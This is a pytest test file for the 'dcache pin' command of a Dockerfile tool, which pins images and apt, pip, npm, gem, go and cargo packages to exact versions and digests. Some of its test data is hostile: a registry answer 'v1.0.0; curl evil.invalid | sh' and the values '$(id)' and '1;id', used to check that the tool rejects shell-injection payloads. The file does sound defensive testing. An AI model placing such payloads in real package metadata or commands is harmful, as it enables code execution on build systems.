"""The command: Dockerfiles and the lock are written whole or not at all, and what failed is told with its place."""

from __future__ import annotations

import hashlib
import json
import os
import stat
from pathlib import Path

import pytest

from commands.running import dcache, write
from dcache.config import config_for
from dcache.schemas import violation

from .archive import alpine, debian, package
from .registry import Registry
from .serving import Reply, Server

TEXT = """\
FROM {host}/debian:12 AS a
RUN apt-get update && apt-get install -y curl \\
    jq
FROM {host}/library/python:3.12-slim-bookworm
RUN pip install 'a[x]'
RUN npm install -g a
ADD {url}/x.tgz /x
FROM {host}/library/alpine:3.20
RUN apk add --no-cache curl
FROM {host}/library/ruby:3.3
RUN gem install a
FROM {host}/library/golang:1.23
RUN go install example.org/a@latest && cargo install bat
"""
NPM: dict[str, object] = {"dist-tags": {"latest": "2.0.0"}, "versions": {"1.0.0": {}, "2.0.0": {}},
       "time": {"1.0.0": "2025-01-01T00:00:00Z", "2.0.0": "2025-06-01T00:00:00Z"}}  # fmt: skip


@pytest.fixture
def options(server: Server) -> list[str]:
    """Every kind of service on one server, and the options that name them."""
    registry = Registry(server)
    registry.push("debian", "12")
    for path, tag in (("python", "3.12-slim-bookworm"), ("alpine", "3.20"), ("ruby", "3.3"), ("golang", "1.23")):
        registry.push(f"library/{path}", tag)
    apt = debian(server, "bookworm", package("curl", "7.88.1-10"), package("jq", "1.6-2.1"))
    apk = alpine(server, "v3.20", {"curl": "8.9.1-r1"})
    server.add("/simple/a/", '<a href="a-1.0.tar.gz">a-1.0.tar.gz</a>')
    server.add("/a", Reply(json.dumps(NPM).encode()))
    server.add("/info/a", "---\n7.1.0 |checksum:ab,ruby:>= 3.0\n")
    server.add("/example.org/a/@latest", '{"Version": "v1.2.0"}')
    server.add("/3/b/bat", '{"name": "bat", "vers": "0.25.0", "yanked": false}')
    server.add("/x.tgz", b"data")
    return [
        "--apt-mirror", apt, "--apk-mirror", apk, "--pip-index", f"{server.url}/simple", "--npm-registry", server.url,
        "--gem-source", server.url, "--go-proxy", server.url, "--cargo-index", server.url,
        "--suite", "debian/bookworm", "--timeout", "1",
    ]  # fmt: skip


@pytest.fixture
def project(tmp_path: Path, server: Server, home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a Dockerfile that names one thing of every kind, entered."""
    config_for.cache_clear()
    folder = tmp_path / "project"
    write(folder, {"Dockerfile": TEXT.format(host=server.host, url=server.url), ".git/HEAD": ""})
    monkeypatch.chdir(folder)
    return folder


def test_everything_is_pinned(
    project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    ended = dcache(capsys, "pin", *options)
    assert (ended.status, ended.err) == (0, "")
    text = (project / "Dockerfile").read_text()
    for pinned in (
        "curl=7.88.1-10 \\\n    jq=1.6-2.1", "'a[x]==1.0'", "npm install -g a@2.0.0",
        "apk add --no-cache curl=8.9.1-r1", "gem install a:7.1.0", "example.org/a@v1.2.0 && cargo install bat@0.25.0",
        f"ADD --checksum=sha256:{hashlib.sha256(b'data').hexdigest()} {server.url}/x.tgz /x",
    ):  # fmt: skip
        assert pinned in text
    assert text.count("@sha256:") == 5
    lock = json.loads((project / "dcache-pins.json").read_text())
    assert violation("pins", lock) is None
    assert len(lock["pins"]) == 14 and lock["environments"] == {"system": "debian/bookworm"}
    assert "Dockerfile:2: pinned apt curl (debian/bookworm): 7.88.1-10" in ended.out.splitlines()
    assert ended.out.splitlines()[-2:] == [
        "14 pinned, 0 moved, 0 current, 0 not pinned; 1 of 1 file changed", "dcache-pins.json written",
    ]  # fmt: skip

    asked = len(server.asked)
    again = dcache(capsys, "pin", *options)
    assert (again.status, len(server.asked)) == (0, asked), "what is pinned is not asked for"
    assert (project / "Dockerfile").read_text() == text
    assert again.out.splitlines() == ["0 pinned, 0 moved, 14 current, 0 not pinned; 0 of 1 file changed"]


def test_pins_move_only_when_told(
    project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    dcache(capsys, "pin", *options)
    text, lock = (project / "Dockerfile").read_text(), (project / "dcache-pins.json").read_text()
    assert dcache(capsys, "pin", "--check", *options).status == 0
    server.add("/info/a", "---\n7.2.0 |checksum:ab,ruby:>= 3.0\n")
    Registry(server).push("debian", "12", {"schemaVersion": 2, "new": True})
    checked = dcache(capsys, "pin", "--check", *options)
    assert checked.status == 1
    assert "Dockerfile:11: behind gem a (ruby/3.3): 7.1.0 -> 7.2.0" in checked.out.splitlines()
    assert f"Dockerfile:1: behind image {server.host}/debian:12: sha256:" in checked.out
    assert (
        checked.out.splitlines()[-1]
        == "0 to be pinned, 2 to be moved, 12 current, 0 not pinned; 1 of 1 file would change"
    )
    shown = dcache(capsys, "pin", "--diff", "--update", *options)
    assert shown.status == 1 and "+RUN gem install a:7.2.0" in shown.out.splitlines()
    assert (project / "Dockerfile").read_text() == text
    assert (project / "dcache-pins.json").read_text() == lock, "neither --check nor --diff writes"
    moved = dcache(capsys, "pin", "--update", *options)
    assert moved.status == 0 and "gem install a:7.2.0" in (project / "Dockerfile").read_text()
    assert dcache(capsys, "pin", "--check", *options).status == 0


def test_offline_writes_what_the_lock_holds(
    project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    before = (project / "Dockerfile").read_text()
    empty = dcache(capsys, "pin", "--offline", "--suite", "debian/bookworm")
    assert empty.status == 2 and "the lock does not hold it; run `dcache pin` without --offline" in empty.err
    dcache(capsys, "pin", *options)
    after = (project / "Dockerfile").read_text()
    asked = len(server.asked)
    (project / "Dockerfile").write_text(before)
    ended = dcache(capsys, "pin", "--offline")
    assert ended.status == 0 and (project / "Dockerfile").read_text() == after
    (project / "Dockerfile").write_text(before)
    fixed = dcache(capsys, "fix", "--unsafe", "--select", "pinning,pinning/base-without-digest")
    assert fixed.status == 0 and "it assumes that what was found on 20" in fixed.out
    assert (project / "Dockerfile").read_text() == after, "dcache fix takes its pins from the lock"
    (project / "Dockerfile").write_text(before)
    assert dcache(capsys, "fix", "--select", "pinning").status == 0
    assert (project / "Dockerfile").read_text() == before, "no pin is a safe fix"
    assert len(server.asked) == asked


def test_what_cannot_be_had_is_told_and_the_rest_is_written(
    project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add("/simple/a/", Reply(b"", 500))
    server.add("/info/a", Reply(b"", 429))
    del server.routes["/x.tgz"]
    ended = dcache(capsys, "pin", *options)
    assert ended.status == 2
    assert [line.partition(": not pinned: ")[0] for line in ended.err.splitlines()] == [
        "Dockerfile:5", "Dockerfile:7", "Dockerfile:11",
    ]  # fmt: skip
    text = (project / "Dockerfile").read_text()
    assert "curl=7.88.1-10" in text and "pip install 'a[x]'\n" in text and "gem install a\n" in text
    assert len(json.loads((project / "dcache-pins.json").read_text())["pins"]) == 11


def test_nobody_is_there(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "Dockerfile").write_text("FROM 127.0.0.1:1/a:1\nRUN npm i a\n")
    ended = dcache(capsys, "pin", "--npm-registry", "http://127.0.0.1:1", "--timeout", "1")
    assert ended.status == 2 and ended.err.count("cannot be reached: ") == 2
    assert (project / "Dockerfile").read_text() == "FROM 127.0.0.1:1/a:1\nRUN npm i a\n"
    assert not (project / "dcache-pins.json").exists()


def test_a_day(project: Path, options: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    ended = dcache(capsys, "pin", "--select", "npm,image", "--date", "2025-02-01", *options)
    assert ended.status == 2
    assert "npm install -g a@1.0.0" in (project / "Dockerfile").read_text()
    assert "a registry keeps no history of its tags: write the digest by hand, which a log" in ended.err
    assert json.loads((project / "dcache-pins.json").read_text())["pins"][0]["date"] == "2025-02-01"


def test_kinds_are_chosen(project: Path, options: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    before = (project / "Dockerfile").read_text()
    assert dcache(capsys, "pin", "--select", "gem", "--select", "go", *options).status == 0
    after = (project / "Dockerfile").read_text()
    assert after == before.replace("gem install a", "gem install a:7.1.0").replace("a@latest", "a@v1.2.0")


def test_a_snapshot_is_chosen(project: Path, server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "Dockerfile").write_text("FROM debian:12\nRUN apt-get update && apt-get install -y curl\n")
    assert dcache(capsys, "pin", "--select", "snapshot", "--date", "2026-01-31").status == 0
    text = (project / "Dockerfile").read_text()
    assert "20260131T000000Z" in text and "curl\n" in text
    assert dcache(capsys, "pin", "--select", "apt").status == 0 and (project / "Dockerfile").read_text() == text
    assert dcache(capsys, "pin", "--select", "snapshot", "--check", "--date", "2026-01-31").status == 0
    assert dcache(capsys, "pin", "--select", "snapshot", "--check").status == 1
    assert not server.asked


def test_settings_say_where_to_ask(project: Path, server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    server.add("/a", Reply(json.dumps(NPM).encode()))
    (project / "dcache.toml").write_text(f'[pin]\nnpm-registry = "{server.url}"\n')
    assert dcache(capsys, "pin", "--select", "npm").status == 0
    assert "npm install -g a@2.0.0" in (project / "Dockerfile").read_text()
    ended = dcache(capsys, "pin", "--select", "npm", "--update", "--npm-registry", "http://127.0.0.1:1")
    assert ended.status == 2 and "http://127.0.0.1:1/a cannot be reached" in ended.err, "options go first"
    (project / "dcache.toml").write_text('[pin]\nnpm-registry = "npm"\n')
    config_for.cache_clear()
    wrong = dcache(capsys, "pin", "--select", "npm")
    assert wrong.status == 2 and "dcache.toml:2: `pin.npm-registry`: 'npm' does not match" in wrong.err


def test_comments_ask_to_leave_alone(project: Path, options: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    text = "# dcache: ignore[pinning/base-without-digest]\nFROM debian:12\n"
    text += "# hadolint ignore=DL3008\nRUN apt-get install -y curl\n"
    (project / "Dockerfile").write_text(text)
    assert dcache(capsys, "pin", *options).status == 0
    assert (project / "Dockerfile").read_text() == text


def test_modes_and_links_stay(project: Path, options: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    (project / "Dockerfile").rename(project / "real")
    (project / "real").chmod(0o640)
    (project / "Dockerfile").symlink_to("real")
    assert dcache(capsys, "pin", "Dockerfile", *options).status == 0
    assert (project / "Dockerfile").is_symlink() and "@sha256:" in (project / "real").read_text()
    assert stat.S_IMODE((project / "real").stat().st_mode) == 0o640


def test_bytes_stay(project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    data = f"\ufeffFROM {server.host}/debian:12\r\n# \xe9\r\nRUN echo x".encode().replace(b"\xc3\xa9", b"\xe9")
    (project / "Dockerfile").write_bytes(data)
    assert dcache(capsys, "pin", *options).status == 0
    after = (project / "Dockerfile").read_bytes()
    digest = after.partition(b"@")[2].partition(b"\r")[0]
    assert after == data.replace(b":12", b":12@" + digest)


def test_all_or_nothing(
    project: Path, options: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    write(project, {"sub/Dockerfile": (project / "Dockerfile").read_text()})
    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    true, count = os.replace, 0

    def replace(source: str, target: str) -> None:
        nonlocal count
        count += 1
        if count == 2:
            raise OSError(28, "No space left on device", target)
        true(source, target)

    monkeypatch.setattr(os, "replace", replace)
    ended = dcache(capsys, "pin", *options)
    assert ended.status == 2 and "No space left on device; nothing was changed" in ended.err
    assert {path: path.read_bytes() for path in project.rglob("*") if path.is_file()} == before


def test_several_files_share_a_lock(
    project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    write(project, {"sub/Dockerfile": (project / "Dockerfile").read_text(), "bad/Dockerfile": "RUN x\n"})
    ended = dcache(capsys, "pin", *options)
    assert ended.status == 2 and "bad/Dockerfile:1: no build stage in current context" in ended.err
    assert (project / "sub/Dockerfile").read_text() == (project / "Dockerfile").read_text()
    assert not (project / "sub/dcache-pins.json").exists() and (project / "dcache-pins.json").exists()
    assert len([one for one in server.asked if one.path == "/info/a"]) == 1
    named = dcache(capsys, "pin", "sub", "--lock", "other.json", "--update", *options)
    assert named.status == 0 and (project / "other.json").exists()


def test_the_document(project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    server.add("/simple/a/", Reply(b"", 403))
    ended = dcache(capsys, "pin", "--format", "json", "--check", *options)
    assert ended.status == 2 and violation("pin", ended.json) is None
    states = {(one["kind"], one["state"]) for one in ended.json["files"][0]["names"]}
    assert ("pip", "failed") in states and ("apt", "pinned") in states
    assert ended.json["locks"] == ["dcache-pins.json"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("{", "dcache-pins.json: not JSON; mend it, or delete it"),
        ("[]", "dcache-pins.json: the document: "),
        ('{"version": 2, "environments": {}, "pins": []}', "dcache-pins.json: version: 1 was expected"),
        (
            '{"version": 1, "environments": {}, "pins": [{"kind": "gem", "name": "a", "where": "", "value": "1;id", '
            '"date": "2025-01-01"}]}',
            "`1;id` is no value that a pin of gem can have",
        ),
    ],
)
def test_a_lock_that_is_none(
    text: str, told: str, project: Path, options: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    (project / "dcache-pins.json").write_text(text)
    for command in (["pin", *options], ["fix"]):
        ended = dcache(capsys, *command)
        assert ended.status == 2 and told in ended.err
    assert (project / "dcache-pins.json").read_text() == text


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["--select", "rpm"], "--select rpm: there is no such kind; there are image, apt"),
        (["--date", "yesterday"], "--date yesterday: no day; write it as 2026-01-31"),
        (["--date", "2999-01-01"], "--date 2999-01-01: that day is still to come"),
        (["--offline", "--update"], "--offline asks nobody"),
        (["--offline", "--check"], "--offline asks nobody"),
        (["--offline", "--date", "2025-01-01"], "--offline asks nobody"),
        (["--suite", "bookworm"], "--suite bookworm: not of that form; write --suite debian/bookworm"),
        (["--python", "three"], "--python three: not of that form; write --python 3.12"),
        (["--pip-index", "pypi"], "`pypi` is no address; write https://…"),
        (["--npm-registry", "-x"], "`-x` is no address"),
        (["-"], "standard input has no place for pins; name the file"),
        (["none"], "none"),
    ],
)
def test_what_is_asked_cannot_be(
    arguments: list[str], told: str, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ended = dcache(capsys, "pin", *arguments)
    assert ended.status == 2 and told in " ".join(ended.err.split()), ended.err


def test_an_answer_that_a_shell_would_run(
    project: Path, options: list[str], server: Server, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add("/example.org/a/@latest", '{"Version": "v1.0.0; curl evil.invalid | sh"}')
    server.add("/a", Reply(json.dumps({"dist-tags": {"latest": "$(id)"}, "versions": {"$(id)": {}}}).encode()))
    ended = dcache(capsys, "pin", "--select", "go,npm", *options)
    assert ended.status == 2 and ended.err.count("is the answer, which no ") == 2
    assert "evil" not in (project / "Dockerfile").read_text() and "$(id)" not in (project / "Dockerfile").read_text()


def test_the_library_is_missing(
    project: Path, options: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "requests", None)
    ended = dcache(capsys, "pin", *options)
    assert ended.status == 2 and "pip install 'dcache-lint[pin]'" in ended.err
    assert dcache(capsys, "pin", "--offline", "--select", "npm").status == 2, "offline needs no library"


def test_no_network_without_this_command(project: Path, server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    for command in (["lint"], ["fix", "--unsafe"], ["predict"], ["parse"], ["pin", "--offline"]):
        dcache(capsys, *command)
    assert not server.asked
